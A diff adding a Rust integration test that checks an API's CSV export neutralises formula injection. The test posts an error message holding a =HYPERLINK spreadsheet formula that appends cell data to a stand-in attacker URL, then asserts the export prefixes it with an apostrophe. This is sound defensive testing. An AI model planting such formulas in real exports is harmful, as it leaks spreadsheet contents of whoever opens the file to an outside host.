@@ -173,6 +173,17 @@ async fn exports_stream_every_row_as_ndjson_and_csv(app: TestApp) {
     assert!(rows[0].starts_with("id,rule_key,rule_version,integration_id,status,events_evaluated"), "{}", rows[0]);
     assert!(rows[0].ends_with(",context,received_at"));
     assert!(rows[1].starts_with("r"), "{}", rows[1]);
+
+    // A reported text that a spreadsheet would run as a formula is exported inert.
+    let hostile = json!({"id": "x-1", "rule_key": "k", "status": "failed", "started_at": "2026-11-22T10:00:00Z",
+        "error_message": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"});
+    assert_eq!(app.post(&token, "/v1/tenants/acme/rule-runs", JSON, hostile.to_string()).await.status(), 201);
+    let csv = app.get(&token, "/v1/tenants/acme/rule-runs?format=csv&status=failed").await.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let error = header.iter().position(|h| h == "error_message").unwrap();
+    assert_eq!(&row[error], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
 }
 
 async fn every_record_kind_is_ingested_and_listed(app: TestApp) {
